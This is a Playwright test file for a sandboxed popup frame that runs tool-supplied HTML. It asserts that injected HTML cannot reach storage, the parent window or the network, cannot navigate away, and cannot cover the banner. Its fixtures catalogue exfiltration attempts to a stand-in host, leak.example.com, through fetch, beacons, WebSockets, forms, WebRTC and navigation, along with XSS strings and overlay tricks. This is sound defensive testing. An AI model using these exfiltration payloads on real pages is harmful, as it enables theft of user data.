import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { Canary } from './canary.js';
import { test, expect, html, opened } from './popups.js';
import { app } from './securesite.js';

/** What html says of what it has found. */
type Found = { readonly [what: string]: unknown };

async function heard(host: Page, at: number): Promise<readonly unknown[]> {
  return host.evaluate((at) => attempts[at]!.heard, at);
}

test('html has an opaque origin, and neither the page, the window above it nor anything stored is within its reach', async ({ host }) => {
  await host.evaluate(() => {
    document.cookie = 'a=secret';
    localStorage.setItem('a', 'secret');
  });
  const { at, shell } = await opened(host, html(`<body><script>
    const found = {};
    const attempt = (name, f) => { try { const value = f(); found[name] = value === null || typeof value !== 'object' ? String(value) : 'an object' } catch (error) { found[name] = error.name } };
    attempt('origin', () => self.origin);
    attempt('opener', () => opener);
    attempt('parent.opener', () => parent.opener);
    attempt('parent.document', () => parent.document);
    attempt('top is parent', () => top === parent);
    attempt('frameElement', () => frameElement);
    attempt('parent.localStorage', () => parent.localStorage);
    attempt('localStorage', () => localStorage);
    attempt('sessionStorage', () => sessionStorage);
    attempt('cookie', () => document.cookie);
    attempt('indexedDB', () => indexedDB.open('a'));
    attempt('open', () => window.open('/blank.html'));
    attempt('open blank', () => window.open('about:blank', 'host'));
    attempt('alert', () => alert(1));
    attempt('confirm', () => confirm(1));
    attempt('print', () => print());
    attempt('eval', () => eval('1'));
    attempt('serviceWorker', () => navigator.serviceWorker);
    attempt('RTC', () => typeof RTCPeerConnection);
    parent.postMessage(found, '*');
  </script>`));
  await expect.poll(async () => (await heard(host, at)).length).toBe(1);
  const [found] = (await heard(host, at)) as [Found];
  expect(found).toMatchObject({
    origin: 'null', opener: 'null', 'parent.opener': 'null', 'parent.document': 'SecurityError', 'top is parent': 'true', frameElement: 'null',
    'parent.localStorage': 'SecurityError', localStorage: 'SecurityError', sessionStorage: 'SecurityError', cookie: 'SecurityError', indexedDB: 'SecurityError',
    open: 'null', 'open blank': 'null', alert: 'undefined', confirm: 'false', print: 'undefined', eval: 'EvalError', RTC: 'undefined',
  });
  expect(host.context().pages()).toHaveLength(2);
  expect(await shell.evaluate(() => [opener, document.querySelectorAll('iframe').length, location.origin])).toEqual([null, 1, app]);
});

for (const [title, allowlist] of [['', '()'], [', also by its policy alone', '']] as const) test(`html reaches no network${title}: no request, no socket, no other window, no download`, async ({ host, site }) => {
  site.own.set('/popup-frame.html', { 'connection-allowlist': allowlist });
  const canary = await Canary.listen();
  const udp = await listenUDP();
  try {
    const leak = 'https://leak.example.com';
    const attack = ways(leak, canary.origin, udp.port);
    let downloads = 0;
    host.context().on('page', (page) => page.on('download', () => downloads++));
    const { at, shell } = await opened(host, html(attack));
    await expect.poll(async () => (await heard(host, at)).includes('tried'), { timeout: 20_000 }).toBe(true);
    // Whoever presses what it shows goes nowhere either.
    for (const link of ['send', 'top', 'blank', 'ping', 'save']) await shell.frameLocator('iframe').first().locator(`#${link}`).click();
    expect(await heard(host, at)).toContain('submitted');
    expect(await shell.frames()[1]!.evaluate(() => document.querySelector('a')?.id), 'and it is still there').toBe('top');
    await shell.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1500)));
    expect({ https: site.of('leak.example.com'), http: canary.hits, udp: udp.heard(), downloads }).toEqual({ https: [], http: [], udp: 0, downloads: 0 });
    const own = site.of('app.example.com').filter(({ path }) => /stolen/.test(path));
    expect(own, 'nor does it ask its own site').toEqual([]);
    expect(host.context().pages()).toHaveLength(2);
    expect(new URL(shell.url()).pathname).toBe('/popup.html');
    await expect(shell.locator('header')).toBeVisible();

    // Positive control: the same html as a page of its own reaches all three.
    site.pages.set('https://open.example.com/', attack.replaceAll('parent.postMessage', 'void '));
    const free = await host.context().newPage();
    await free.goto('https://open.example.com/').catch(() => {});
    await expect.poll(() => [site.of('leak.example.com').length > 3, canary.hits.length > 0, udp.heard() > 0], { timeout: 20_000 }).toEqual([true, true, true]);
  } finally {
    udp.close();
    await canary.close();
  }
});

/** Asks a STUN server, as every realm can that has WebRTC. */
function rtc(udp: number): string {
  return `const rtc = async (RTC) => {
    const connection = new RTC({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
    connection.createDataChannel("a");
    await connection.setLocalDescription(await connection.createOffer());
  };`;
}

function ways(leak: string, plain: string, udp: number): string {
  return `<!doctype html><head>
    <link rel="prefetch" href="${leak}/prefetch"><link rel="preconnect" href="${leak}"><link rel="modulepreload" href="${leak}/modulepreload">
    <link rel="stylesheet" href="${leak}/css"><link rel="icon" href="${leak}/icon"><base href="${leak}/">
    <style>@import url("${leak}/import"); @font-face { font-family: f; src: url("${leak}/font") } body { font-family: f; background: url("${leak}/background") }</style>
    <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${leak}/speculation"]}],"prerender":[{"source":"list","urls":["/popup.html?stolen"]}]}</script>
    </head><body>
    <img src="${leak}/img"><img src="relative"><script src="${leak}/script"></script><iframe src="${leak}/iframe"></iframe><iframe src="/popup-frame.html?stolen"></iframe>
    <object data="${leak}/object"></object><embed src="${leak}/embed"><video src="${leak}/video" poster="${leak}/poster"></video><svg><image href="${leak}/svg"/></svg>
    <iframe srcdoc='<script>fetch("${leak}/srcdoc", { mode: "no-cors" }).catch(() => {})</script>'></iframe>
    <a id="top" href="${leak}/top" target="_top">a</a> <a id="blank" href="${leak}/blank" target="_blank">b</a> 
    <a id="ping" href="#x" ping="${leak}/ping">d</a> <a id="save" href="data:text/plain,stolen" download="a.txt">e</a>
    <form id="f" action="${leak}/form" method="post"><input name="a" value="stolen"><button id="send">send</button></form>
    <script>
      const no = () => {};
      ${rtc(udp)}
      document.getElementById('f').addEventListener('submit', (event) => event.preventDefault() || parent.postMessage('submitted', '*'));
      const tries = [
        () => fetch('${leak}/fetch', { mode: 'no-cors' }),
        () => fetch('/?stolen'),
        () => fetch('${plain}/fetch', { mode: 'no-cors' }),
        () => new WebSocket('wss://leak.example.com/ws'),
        () => new WebSocket('${plain.replace('http', 'ws')}/ws'),
        () => new EventSource('${leak}/events'),
        () => navigator.sendBeacon('${leak}/beacon', 'stolen'),
        () => import('${leak}/module'),
        () => new Worker(URL.createObjectURL(new Blob(["fetch('${leak}/worker', { mode: 'no-cors' })"]))),
        () => new Worker('data:text/javascript,fetch("${leak}/data", { mode: "no-cors" })'),
        () => { const x = new XMLHttpRequest(); x.open('GET', '${leak}/xhr'); x.send() },
        () => new Image().src = '${leak}/image',
        () => rtc(window.RTCPeerConnection),
        () => { const child = document.createElement('iframe'); document.body.append(child); return rtc(child.contentWindow.RTCPeerConnection) },
        () => { const child = document.createElement('iframe'); document.body.append(child); return child.contentWindow.fetch('${leak}/child', { mode: 'no-cors' }) },
        () => document.getElementById('f').requestSubmit(),
        () => { const f = document.createElement('form'); f.action = '/?stolen'; f.target = '_top'; document.body.append(f); f.submit() },
        () => open('${leak}/open'),
        () => open('${leak}/parent', '_parent'),
        () => top.location = '${leak}/top.location',
        () => parent.location.replace('/?stolen'),
        () => document.getElementById('save').click(),
        () => document.getElementById('top').click(),
        () => document.getElementById('blank').click(),
      ];
      (async () => {
        for (const attempt of tries) { try { Promise.resolve(attempt()).catch(no) } catch {} await new Promise((resolve) => setTimeout(resolve, 30)) }
        parent.postMessage('tried', '*');
      })();
    </script>`;
}

async function listenUDP(): Promise<{ port: number; heard(): number; close(): void }> {
  const socket: Socket = createSocket('udp4');
  let heard = 0;
  socket.on('message', () => heard++);
  await new Promise<void>((done) => socket.bind(0, '127.0.0.1', done));
  return { port: (socket.address() as AddressInfo).port, heard: () => heard, close: () => socket.close() };
}

test('WebRTC in a frame within html sends nothing, and what it does to its own process harms nobody', async ({ host, site }) => {
  const udp = await listenUDP();
  try {
    const attack = `<iframe srcdoc='<script>${rtc(udp.port)} rtc(RTCPeerConnection)</script>'></iframe>`;
    const { at, shell } = await opened(host, html(attack));
    await host.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1500)));
    expect(udp.heard()).toBe(0);
    expect(shell.isClosed()).toBe(false);
    expect((await host.evaluate(() => harness.run('() => 1'))).outcome).toBe('ok');
    await host.evaluate((at) => attempts[at]!.finish(), at);
    // Positive control: the header is what holds it.
    site.own.set('/popup-frame.html', { 'connection-allowlist': '' });
    const { at: free } = await opened(host, html(attack));
    await expect.poll(() => udp.heard(), { timeout: 10_000 }).toBeGreaterThan(0);
    await host.evaluate((at) => attempts[at]!.finish(), free);
  } finally {
    udp.close();
  }
});

test('html that leads its own frame away is gone, and nobody was asked', async ({ host, site }) => {
  await host.evaluate(() => (answering = 'session'));
  const leak = 'https://leak.example.com';
  for (const way of [
    `location.href = '${leak}/href'`,
    `location.replace('/popup-frame.html?stolen')`,
    `location.assign('/blank.html?stolen')`,
    `location.href = 'javascript:location.href="${leak}/javascript"'`,
    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${leak}/refresh">'`,
    `document.body.innerHTML = '<a href="${leak}/link">a</a>'; document.querySelector('a').click()`,
    `document.body.innerHTML = '<form method="post" action="${leak}/post"><input name="a"></form>'; document.forms[0].requestSubmit()`,
    `document.body.innerHTML = '<form action="/?stolen"><input name="a"></form>'; document.forms[0].requestSubmit()`,
    `document.body.innerHTML = '<form action="${leak}/form"><input name="a"></form>'; document.forms[0].submit()`,
    `location.href = URL.createObjectURL(new Blob(['<script>location.href = "${leak}/blob"</' + 'script>'], { type: 'text/html' }))`,
    `location.href = 'data:text/html,<script>location.href="${leak}/data"</' + 'script>'`,
    `document.body.innerHTML = '<iframe srcdoc="<meta http-equiv=refresh content=0;url=${leak}/inner>"></iframe>'`,
    `navigation.navigate('${leak}/navigate').committed.catch(() => {})`,
    `location.reload()`,
  ]) {
    const { at, shell } = await opened(host, html(`<body><p>here</p><script>setTimeout(() => { try { ${way.replaceAll('</', '<\\/')} } catch {} setTimeout(() => parent.postMessage('stays', '*'), 200) }, 50)</script>`));
    const left = shell.waitForEvent('framenavigated', { timeout: 3000 }).then(() => true, () => false);
    await Promise.race([left, expect.poll(async () => (await heard(host, at)).includes('stays')).toBe(true)]);
    const gone = shell.waitForEvent('close');
    await host.evaluate((at) => attempts[at]!.finish(), at);
    await gone;
  }
  expect(site.of('leak.example.com')).toEqual([]);
  expect(site.of('app.example.com').filter(({ path }) => path.includes('stolen'))).toEqual([]);
});

test('html neither covers nor changes the banner, whatever it draws, opens on top or calls itself', async ({ host }) => {
  const calm = await opened(host, html('<body style="background:#fff">'));
  const size = { width: 560, height: 500 };
  const look = async (page: Page) => {
    const box = (await page.locator('header').boundingBox())!;
    await page.locator('header').evaluate((line) => line.querySelectorAll('strong, code').forEach((name) => (name.textContent = 'name'))); // all that differs
    return { box, picture: await page.screenshot({ clip: box }) };
  };
  await calm.shell.setViewportSize(size);
  const before = await look(calm.shell);
  const wild = await opened(host, html(`<title>taskyon</title><body style="margin:0"><style>
      * { position: fixed !important; inset: -500px !important; z-index: 2147483647 !important; background: red !important; width: 2000px; height: 2000px }
    </style><dialog id="d">Allow everything?</dialog><div id="p" popover>over</div>
    <script>
      for (const f of [() => d.showModal(), () => p.showPopover(), () => parent.name = 'a', () => parent.document.title = 'a', () => document.title = 'a', () => parent.resizeTo(1, 1),
        () => parent.blur(), () => document.documentElement.requestFullscreen().catch(() => {})]) try { f() } catch {}
      parent.postMessage({ kind: 'custom-html', html: 'x', tool: 'x' }, '*');
      parent.postMessage({ kind: 'gone' }, '*');
      parent.postMessage('taskyon-popup-frame', '*');
      addEventListener('click', () => document.documentElement.requestFullscreen().catch(() => {}));
    </script>`));
  await wild.shell.setViewportSize(size);
  await wild.shell.mouse.click(200, 300);
  await expect.poll(() => heard(host, wild.at), { message: 'what looks like words of ours is a message like any other' }).toEqual([
    { kind: 'custom-html', html: 'x', tool: 'x' },
    { kind: 'gone' },
    'taskyon-popup-frame',
  ]);
  const name = await wild.shell.locator('header strong').innerText();
  expect(name).toBe(await host.evaluate(() => prompted[1]!.tool));
  expect(await wild.shell.title()).toBe(`Tool window: ${name}`);
  const after = await look(wild.shell);
  expect(after.box).toEqual(before.box);
  expect(after.picture.equals(before.picture), 'the same pixels').toBe(true);
  expect(await wild.shell.evaluate(() => {
    const line = document.querySelector('header')!.getBoundingClientRect();
    const frame = document.querySelector('iframe')!.getBoundingClientRect();
    return [document.elementFromPoint(line.x + 5, line.y + 5)?.tagName, frame.top >= line.bottom, document.fullscreenElement];
  })).toEqual(['HEADER', true, null]);
});

test('text of a tool is text: no name is markup, and what html says arrives as data', async ({ host }) => {
  const hostile = ['<img src=x onerror=alert(1)>', 'a\u202eb', '</script><script>', 'a b', '[x](javascript:alert(1))'];
  const codes = await host.evaluate(async (names) => {
    const codes: string[] = [];
    for (const name of names) codes.push((await harness.refusal(() => harness.native(() => 1, { name, needs: { popup: ['custom-html'] } }))).code);
    return codes;
  }, hostile);
  expect(codes).toEqual(hostile.map(() => 'invalid_definition'));
  const needs = await host.evaluate(async () =>
    (await harness.refusal(() => ty.tools.forecast({ name: 'a', description: '', implementation: { class: 'trusted-native', native: 'a', version: '1' }, needs: { popup: ['<img src=x onerror=alert(1)>'] } }))).code);
  expect(needs).toBe('invalid_definition');
  const { at } = await opened(host, html(`<script>parent.postMessage(${JSON.stringify(hostile).replaceAll('</', '<\\/')}, '*')</script>`));
  await expect.poll(() => heard(host, at)).toEqual([hostile]);
  expect(await host.evaluate(() => document.querySelectorAll('img').length)).toBe(0);
});

test('html that talks without end is ended, and what is no JSON or too long is not heard', async ({ host }) => {
  const quiet = await opened(host, html(`<script>
    const cycle = {}; cycle.me = cycle;
    for (const odd of [undefined, () => 1, 'x'.repeat(300000), 1n, cycle, new Map(), new ArrayBuffer(3), null]) try { parent.postMessage(odd, '*') } catch {}
    parent.postMessage('end', '*');
  </script>`));
  await expect.poll(() => heard(host, quiet.at)).toEqual([{}, {}, null, 'end']);
  const loud = await opened(host, html(`<script>setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage(i, '*') }, 1)</script>`));
  await expect.poll(() => host.evaluate((at) => attempts[at]!.ended, loud.at)).toBe('flood');
  expect((await heard(host, loud.at)).length).toBeLessThan(1000);
  await host.evaluate((at) => attempts[at]!.popup!.post('on'), quiet.at);
  expect(await host.evaluate((at) => attempts[at]!.ended, quiet.at)).toBeUndefined();
});

test('sandboxed code opens no window: it has none, its definition may not ask for one, and nothing that it says makes one', async ({ host }) => {
  const refusal = await host.evaluate(async () => harness.refusal(() => harness.install('() => 1', { needs: { popup: ['custom-html'] } })));
  expect(refusal).toMatchObject({ code: 'invalid_definition', path: '$.needs.popup' });
  const record = await host.evaluate(() => harness.run(`async (_, context) => {
    const found = [typeof open, typeof window, typeof context.popup, typeof self.clients];
    for (const f of [() => context.popup({ kind: 'custom-html', html: 'x' }), () => open('https://leak.example.com/'), () => self.open('about:blank'),
      () => Reflect.construct(Function, ['return open("about:blank")'])()]) {
      try { await f(); found.push('opened') } catch (error) { found.push(error.name) }
    }
    return found;
  }`));
  expect(record.outcome).toBe('ok');
  expect(record.result).toEqual(['undefined', 'undefined', 'undefined', 'undefined', 'TypeError', 'ReferenceError', 'TypeError', 'EvalError']);
  expect(record.asks).toEqual([]);
  expect(host.context().pages()).toHaveLength(1);
});

test('popup.html and its frame do nothing for a stranger', async ({ host, site, browserOf }) => {
  site.pages.set('https://stranger.example.com/', `<script>
    const heard = [];
    addEventListener('message', ({ data, origin }) => heard.push([data, origin]));
    const frame = document.createElement('iframe');
    frame.src = '${app}/popup-frame.html';
    frame.onload = () => frame.contentWindow.postMessage('<script>parent.postMessage(origin, "*")<' + '/script>', '*', [new MessageChannel().port2]);
    onload = () => document.body.append(frame);
  </script><body><button onclick="window.open('${app}/popup.html#1-2-3-4')">open</button>`);
  const stranger = await (await browserOf.newContext({ ignoreHTTPSErrors: true })).newPage();
  await stranger.goto('https://stranger.example.com/');
  const shell = stranger.waitForEvent('popup');
  await stranger.getByRole('button').click();
  await (await shell).waitForLoadState();
  await (await shell).evaluate(() => opener.postMessage('done', '*')).catch(() => {});
  await expect.poll(() => stranger.evaluate('heard')).toEqual([['done', app]]);
  const alone = await host.context().newPage();
  await alone.goto(`${app}/popup-frame.html`);
  expect(await alone.evaluate(() => self.origin)).toBe('null');
  await alone.goto(`${app}/popup.html#1-2-3-4`);
  await expect(alone.locator('body')).toHaveText('This window has ended. You can close it.');
});
